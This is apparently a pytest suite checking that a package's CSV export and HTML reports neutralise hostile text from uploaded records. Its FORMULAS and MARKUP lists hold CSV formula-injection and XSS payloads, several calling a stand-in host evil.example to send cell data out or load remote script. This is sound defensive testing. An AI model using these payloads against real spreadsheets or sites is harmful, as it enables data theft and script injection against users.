"""What a stranger wrote into a record runs nowhere: not in a spreadsheet, not in a page."""

from __future__ import annotations

import csv
import re
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd
import pytest

from argyle_nb import storage
from argyle_nb.frames.uploads import flatten
from argyle_nb.report import export_report
from argyle_nb.widgets import upload
from argyle_nb.widgets.upload import UploadPanel
from tests.support.records import form, record, stages
from tests.support.servers import client_of

SCRIPTS = Path(upload.__file__).parent / "static"

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    " =1+1",
    "   @SUM(A1)",
    "\xa0=1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    " \uff1d1+1",
    "=",
    "-",
    "=\n1+1",
    '="a""b"',
    "=IMPORTXML(CONCAT(\"http://evil.example?v=\", A1), '//a')",
    "\tplain",
    "\rplain",
]
HARMLESS = ["plain", "a=1", "1-2", "", "'quoted", "W-2", "\u00e9=1", "0", "1e5", "a\tb", "\u2212 5"]

MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<style>@import '//evil.example/x.css';</style>",
    "</td></tr></table><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7 * 7 }}",
    "{% import os %}",
    "${alert(1)}",
    "$\\frac{<script>alert(1)</script>}{}$",
    "\u202e<script>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]


def cells_of(path):
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def runs(cell):
    """Whether a spreadsheet may take a cell for a formula, told apart from our own rule."""
    visible = cell.lstrip().lstrip("\ufeff\u200b\u202e\0").lstrip()
    return cell[:1] in ("\t", "\r", "\n") or visible[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20")


def bare(text):
    """A text without apostrophes: they also stand behind separators within it."""
    return text.replace("'", "")


# Spreadsheets


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_stays_text_in_cells_headers_and_categories(text, tmp_path):
    frame = pd.DataFrame({text: [text], "kind": pd.Categorical([text]), "number": [-5]})
    storage.write_csv(frame, tmp_path / "x.csv")
    cells = cells_of(tmp_path / "x.csv")
    assert [cell for cell in cells if runs(cell)] == ["-5"]
    assert [bare(cell) for cell in cells if cell.startswith("'")] == [bare(text)] * 3


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_what_is_no_formula_stays_as_it_is(text, tmp_path):
    storage.write_csv(pd.DataFrame({"a": [text], "b": ["x"]}), tmp_path / "x.csv")
    assert cells_of(tmp_path / "x.csv") == ["a", "b", text, "x"]


def test_no_file_of_a_report_holds_a_formula(tmp_path):
    report = _reported(FORMULAS, tmp_path)
    cells = [c for name in report.rows for c in cells_of(report.files[name])]
    bared = [bare(cell) for cell in cells]
    assert all(any(bare(text) in cell for cell in bared) for text in FORMULAS)
    assert not [cell for cell in cells if runs(cell)]


# Pages and panels


class _Looking(HTMLParser):
    """Collects what could run."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed", "form", "base", "link", "img"):
            self.found.append(tag)
        for name, value in attrs:
            told = (value or "").strip().lower()
            if name.startswith("on") or told.startswith(("javascript:", "data:text/html")):
                self.found.append(f"{tag} {name}")


def what_could_run(page):
    parser = _Looking()
    parser.feed(page)
    return parser.found


def _bad(number, text):
    one = form(form_type=text)
    one["signals"][0] |= {"identifier": text, "display_name": text}
    one["form_authenticity"]["reason_codes"][0] |= {"code": text, "description": text}
    return record(
        number,
        document_type=text,
        file_name=text,
        processing=stages(text, text, text),
        requested_document_type=text,
        metadata={"ocr_authenticity": [one], "ocr_authenticity_score": 40},
    )


def _reported(texts, folder):
    records = [_bad(number, text) for number, text in enumerate(texts)]
    without = [one | {"id": f"{one['file_name']}", "metadata": None} for one in records]
    uploads, signals = flatten(records + without)
    title = " ".join(texts)
    return export_report(uploads, folder / "report", signals=signals, title=title, pii="include")


def test_a_report_shows_markup_and_runs_none(tmp_path):
    page = _reported(MARKUP, tmp_path).files["report.html"].read_text(encoding="utf-8")
    assert what_could_run(page) == []
    assert page.count("&lt;script&gt;alert(1)&lt;/script&gt;") > 5
    assert "{{ 7 * 7 }}" in page


@pytest.mark.parametrize("text", MARKUP, ids=ascii)
def test_the_html_of_a_saved_panel_shows_markup_and_runs_none(text, tmp_path):
    assert what_could_run(_saved_panel(text, tmp_path)) == []


@pytest.mark.parametrize("script", sorted(SCRIPTS.glob("*.js")), ids=lambda path: path.name)
def test_no_panel_makes_markup_of_texts(script):
    writes = r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\("
    assert not re.search(writes, script.read_text(encoding="utf-8"))


def _saved_panel(environment, folder):
    client = client_of("http://127.0.0.1:9")
    object.__setattr__(client.settings, "environment", environment)
    return UploadPanel(client, folder / "journal.sqlite")._fallback().html("name", "now")


# Take a guard away, and it runs


def test_without_the_apostrophe_a_formula_would_run(tmp_path, monkeypatch):
    monkeypatch.setattr(storage, "neutral", lambda text: text)
    storage.write_csv(pd.DataFrame({"a": [FORMULAS[0]]}), tmp_path / "x.csv")
    assert [cell for cell in cells_of(tmp_path / "x.csv") if runs(cell)]


def test_without_escaping_markup_would_run(monkeypatch, tmp_path):
    monkeypatch.setattr("argyle_nb.widgets.fallback.escape", lambda text: text)
    assert what_could_run(_saved_panel(MARKUP[0], tmp_path))
